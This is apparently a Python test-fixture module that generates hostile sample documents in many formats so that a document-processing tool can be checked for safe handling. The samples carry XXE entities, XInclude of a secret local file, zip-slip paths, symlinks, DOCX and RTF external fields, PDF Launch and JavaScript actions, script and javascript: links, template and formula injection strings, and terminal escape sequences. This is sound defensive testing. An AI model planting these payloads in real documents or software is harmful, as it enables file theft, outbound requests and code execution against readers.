"""Sources of every format that try to reach out: to the network, to a file outside the folder, to what renders them.

`laid(folder, address, secret)` lays out a briefing's folder of them: each lures to `address`, where nobody should ever
call, and to `secret`, a file outside that nobody should ever read.
"""

from __future__ import annotations

import io
import plistlib
import zipfile
from email.message import EmailMessage
from pathlib import Path

from tests import saved

WORDS = """Talks on Lake Orlin open in Port Halden

By Ada Lind
March 7, 2022

Delegations from Taluria and Karsovia met in Port Halden on Monday for talks on the waters of Lake Orlin.

"We came to {{ 7 * 191 }} listen {% include 'x' %} ${7*191}," said Mira Tolland, the foreign minister of Taluria.

"=HYPERLINK(A1) is what +1 and -1 and @SUM(A1) were for," she told reporters on Monday.

"The \x1b]0;owned\x07dam \x1b[31mhas\x9b2J to be \u202eopened\u2066 before <script>alert(1)</script> May," she said.

Taluria demands that [Karsovia](javascript:alert(1)) ![open](http://lure.invalid/x.png) the dam before the sowing.
"""


def laid(folder: Path, address: str, secret: Path) -> Path:
    """The folder, laid out."""
    sources = folder / "sources"
    sources.mkdir(parents=True)
    for suffix, content in lures(address, secret).items():
        (sources / f"lure{suffix}").write_bytes(content)
    (sources / "plain.txt").write_text(WORDS, encoding="utf-8")
    (sources / "out.txt").symlink_to(secret)
    (sources / "folder").symlink_to(secret.parent, target_is_directory=True)
    (sources / "e\x1b[31mvil\x9b2J\u202e.txt").write_text(WORDS.replace("Monday", "Tuesday"), encoding="utf-8")
    names = '[names."Mira Tolland"]\nrole = "minister {{ 7 * 191 }}"\n'
    toml = f'title = "Orlin {{{{ 7 * 191 }}}} <b>"\nmarking = "=1+1 {{{{ 7 * 191 }}}}"\nto = "@SUM(1)"\n{names}'
    (folder / "brief.toml").write_text(toml, encoding="utf-8")
    return folder


def lures(address: str, secret: Path) -> dict[str, bytes]:
    """By suffix: a source that is read, with all the lures that its format has room for."""
    page = saved.page(WORDS, _head(address, secret)).replace("<nav>", _body(address, secret) + "<nav>")
    return {
        ".html": page.encode(),
        ".xhtml": f'<?xml version="1.0"?>{_declared(address, secret)}{_included(secret)}{page}'.encode(),
        ".mhtml": _archived(page, secret),
        ".webarchive": plistlib.dumps(_web(page, address, secret)),
        ".docx": _docx(address, secret),
        ".rtf": saved.rtf(WORDS).replace(b"\\f0 ", _rtf(address, secret)),
        ".eml": _mail(page, address, secret),
        ".epub": _book(page, address, secret),
        ".rss": _feed(address, secret),
        ".zip": _zip(secret),
        ".pdf": pdf(address, secret),
        ".url": f"[InternetShortcut]\r\nURL={address}/link\r\n".encode(),
        ".md": f"# Talks\n\n![x]({address}/md) [y]({secret.as_uri()})\n\n{WORDS}".encode(),
    }


def _head(address: str, secret: Path) -> str:
    return (
        f'<base href="{address}/"><meta http-equiv="refresh" content="0; url={address}/refresh">'
        f'<link rel="stylesheet" href="{address}/a.css"><link rel="attachment" href="{secret.as_uri()}">'
        f"<style>@import url({address}/b.css); body {{ background: url({secret.as_uri()}) }}</style>"
        f'<script src="{address}/a.js"></script><link rel="canonical" href="{address}/canonical">'
    )


def _body(address: str, secret: Path) -> str:
    return (
        f'<img src="{address}/x.png" onerror="alert(1)"><img src="{secret.as_uri()}"><iframe src="{secret.as_uri()}">'
        f'</iframe><object data="{secret.as_uri()}"></object><embed src="{address}/e"><video src="{address}/v">'
        f'<svg><image href="{secret.as_uri()}"/><use href="{address}/u"/></svg><p style="background:url({address}/s)">'
        f'<a href="javascript:alert(1)">x</a> <xi:include href="{secret.as_uri()}" parse="text"/></p>'
    )


def _declared(address: str, secret: Path) -> str:
    uri = secret.as_uri()
    return f'<!DOCTYPE html SYSTEM "{address}/a.dtd" [<!ENTITY j SYSTEM "{uri}"><!ENTITY % k SYSTEM "{address}/k">%k;]>'


def _included(secret: Path) -> str:
    return f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>&j;'


def _archived(page: str, secret: Path) -> bytes:
    message = EmailMessage()
    message["Snapshot-Content-Location"] = secret.as_uri()
    message.set_content(page, subtype="html", cte="quoted-printable")
    message["Content-Location"] = secret.as_uri()
    message.make_related()
    message.add_related(b"\x89PNG", "image", "png", filename=f"../../..{secret}")
    return message.as_bytes()


def _web(page: str, address: str, secret: Path) -> dict[str, object]:
    main = {"WebResourceData": page.encode(), "WebResourceURL": secret.as_uri(), "WebResourceMIMEType": "text/html"}
    more = {"WebResourceData": b"", "WebResourceURL": f"{address}/sub", "WebResourceMIMEType": "text/css"}
    return {"WebMainResource": main, "WebSubresources": [more]}


def _docx(address: str, secret: Path) -> bytes:
    """A Word document whose template, picture and inserted parts lie elsewhere, and whose fields would fetch."""
    stream = io.BytesIO()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = "".join(
        f'<Relationship Id="rOut{place}" Type="{kind}/{name}" Target="{target}" TargetMode="External"/>'
        for place, (name, target) in enumerate(
            (("attachedTemplate", f"{address}/t.dotm"), ("image", secret.as_uri()), ("oleObject", f"{address}/o"))
        )
    )
    field = f'<w:p><w:r><w:instrText> INCLUDETEXT "{secret}" </w:instrText></w:r></w:p>'
    with zipfile.ZipFile(io.BytesIO(saved.docx(WORDS_OF_XML))) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "word/_rels/document.xml.rels":
                content = content.replace(b"</Relationships>", outside.encode() + b"</Relationships>")
            if name == "word/document.xml":
                content = content.replace(b"<w:sectPr", field.encode() + b"<w:sectPr", 1)
            new.writestr(name, content)
        new.writestr(f"../../..{secret}.docx-escaped", b"escaped")
    return stream.getvalue()


WORDS_OF_XML = "".join(char for char in WORDS if char.isprintable() or char == "\n")


def _rtf(address: str, secret: Path) -> bytes:
    field = f'\\field{{\\*\\fldinst INCLUDEPICTURE "{address}/p" \\\\d}}{{\\fldrslt x}}'
    return (
        f'\\f0 {{\\*\\template {address}/t.dot}}{{{field}}}{{\\field{{\\*\\fldinst INCLUDETEXT "{secret}"}}}}'.encode()
    )


def _mail(page: str, address: str, secret: Path) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["Subject"], mail["Date"] = "a@b.example", "Talks", "Mon, 07 Mar 2022 10:00:00 +0000"
    mail.set_content(WORDS.replace("\x1b", "").replace("\x07", ""))
    mail.add_alternative(page, subtype="html")
    mail.add_attachment(b"escaped", "text", "plain", filename=f"../../../..{secret}.eml-escaped")
    head, end = mail.as_bytes().rsplit(b"\n--", 1)
    boundary = end.decode().split("--")[0]
    body = (
        f'\nContent-Type: message/external-body; access-type=local-file; name="{secret}"\n\nContent-Type: text/plain\n'
        f'\n--{boundary}\nContent-Type: message/external-body; access-type=URL; URL="{address}/x"\n\n'
        "Content-Type: text/plain\n\n"
    )
    return head + b"\n--" + end.split(b"--")[0] + body.encode() + b"\n--" + end


def _book(page: str, address: str, secret: Path) -> bytes:
    container = '<container><rootfiles><rootfile full-path="OEBPS/c.opf"/></rootfiles></container>'
    items = {"a": "a.xhtml", "b": f"../../../..{secret}", "c": secret.as_uri(), "d": f"{address}/chapter.xhtml"}
    manifest = "".join(
        f'<item id="{id}" href="{href}" media-type="application/xhtml+xml"/>' for id, href in items.items()
    )
    spine = "".join(f'<itemref idref="{id}"/>' for id in items)
    package = (
        f'<package xmlns="http://www.idpf.org/2007/opf"><manifest>{manifest}</manifest><spine>{spine}</spine></package>'
    )
    files: dict[str, bytes | str] = {"mimetype": "application/epub+zip", "META-INF/container.xml": container}
    return saved.zipped(
        {**files, "OEBPS/c.opf": package, "OEBPS/a.xhtml": page, f"../..{secret}.epub-escaped": "escaped"}
    )


def _feed(address: str, secret: Path) -> bytes:
    described = saved.page(WORDS_OF_XML, _head(address, secret)).replace("<nav>", _body(address, secret))
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{address}/x.xsl"?><rss version="2.0" '
        f'xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>Post</title><xi:include href="{secret.as_uri()}"/>'
        f'<item><title>Talks</title><link>{address}/item</link><enclosure url="{address}/e.mp3" type="audio/mpeg"/>'
        f"<pubDate>Mon, 07 Mar 2022 08:00:00 GMT</pubDate><description><![CDATA[{described}]]></description></item>"
        "</channel></rss>"
    ).encode()


def _zip(secret: Path) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("talks.txt", WORDS)
        for name in (f"../../../..{secret}.zip-escaped.txt", f"{secret}.absolute-escaped.txt", "..\\..\\escaped.txt"):
            archive.writestr(name, WORDS.replace("Monday", "Wednesday"))
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(secret))
    return stream.getvalue()


def pdf(address: str, secret: Path) -> bytes:
    """A PDF that opens addresses, files and scripts where a reader lets it."""
    shown = b"BT /F 9 Tf 20 300 Td 12 TL " + b" ".join(
        b"(%s) Tj T*" % line.encode("ascii", "ignore").replace(b"(", b"").replace(b")", b"").replace(b"\\", b"")
        for line in WORDS_OF_XML.split("\n")
    )
    launch = f"<< /S /Launch /F ({secret}) /Next << /S /JavaScript /JS (app.alert) >> >>"
    open_it = f"<< /S /URI /URI ({address}/uri) /Next {launch} >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + open_it.encode() + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 400] /Contents [4 0 R 5 0 R] /Resources << /Font << /F << "
        b"/Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /AA << /O " + open_it.encode() + b" >> >>",
        b"<< /Length %d >>\nstream\n%b ET\nendstream" % (len(shown) + 3, shown),
        f"<< /Length 0 /F << /FS /URL /F ({address}/stream) >> /FFilter /FlateDecode >>\nstream\n\nendstream".encode(),
    ]
    made, places = b"%PDF-1.5\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        made
        + b"xref\n0 6\n0000000000 65535 f \n"
        + table
        + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % len(made)
    )
